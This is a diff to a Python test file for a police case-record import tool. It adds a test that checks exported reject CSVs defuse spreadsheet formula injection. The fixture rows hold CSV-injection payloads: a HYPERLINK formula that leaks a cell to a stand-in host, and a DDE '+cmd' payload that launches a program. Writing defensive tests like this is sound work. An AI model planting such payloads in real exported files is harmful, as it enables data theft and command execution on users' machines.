@@ -16,6 +16,7 @@ from indexes.searchbox import Filters, fir_request, interpret, person_request, s
 from indexes.sync import drain_outbox
 from ingest.legacy.job import ImportRun, write_rejects_csv
 from ingest.legacy.profile import ProfileError, load_profile, parse_profile
+from ingest.legacy.readers import read_rows
 
 HEADER = ["PS Name", "District", "Case No", "FIR Date", "FIR Time", "Occurrence Date", "Sections", "Complainant",
           "Accused", "Status", "IO"]  # fmt: skip
@@ -153,6 +154,28 @@ def test_every_rejection_reason_and_the_counts_always_add_up(clean: sa.Engine, p
     assert [int(row["source_row"]) for row in written] == sorted(expected)
     unknown = next(row for row in written if "unknown_station" in row["reasons"])
     assert unknown["PS Name"] == "Atlantis PS" and "cctns stations load" in unknown["details"]
+
+
+def test_rejects_csv_never_carries_a_formula_and_reads_back_as_imported(clean: sa.Engine, profile, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    """OWASP "CSV Injection": imported cells that a spreadsheet would run are quoted; numbers are left alone."""
+    link = '=HYPERLINK("http://x/?"&A1,"Click")'
+    rows = [
+        ["Atlantis PS", "Vaishali", "120/2012", "05/01/2012", "", "", "379 IPC", link, "+cmd|' /C calc'!A0", "", ""],
+        ["Atlantis PS", "Vaishali", "121/2012", "05/01/2012", "", "", "379 IPC", "@SUM(1+1)", "-12", "", "-3.5"],
+        ["Atlantis PS", "Vaishali", "122/2012", "05/01/2012", "", "", "379 IPC", "+91 98765 43210", "", "", ""],
+    ]
+    report = ImportRun(clean, write(tmp_path / "evil.csv", rows), profile).run()
+    assert report.totals.rejected == 3
+    out = tmp_path / "rejects.csv"
+    write_rejects_csv(clean, report.job_id, out)
+    with out.open(encoding="utf-8-sig", newline="") as handle:
+        written = {row["source_row"]: row for row in csv.DictReader(handle)}
+    assert written["2"]["Complainant"] == "'" + link and written["2"]["Accused"] == "'+cmd|' /C calc'!A0"
+    assert written["3"]["Complainant"] == "'@SUM(1+1)" and written["3"]["Accused"] == "-12"
+    assert written["3"]["IO"] == "-3.5" and written["4"]["Complainant"] == "+91 98765 43210"
+    # fixed and imported again, the file gives back the cells as they were
+    again = {row.values["source_row"]: row.values for row in read_rows(out)}
+    assert again["2"]["Complainant"] == link and again["3"]["Complainant"] == "@SUM(1+1)"
 
 
 def test_a_rerun_changes_nothing_and_a_changed_row_updates(clean: sa.Engine, profile, tmp_path) -> None:  # type: ignore[no-untyped-def]
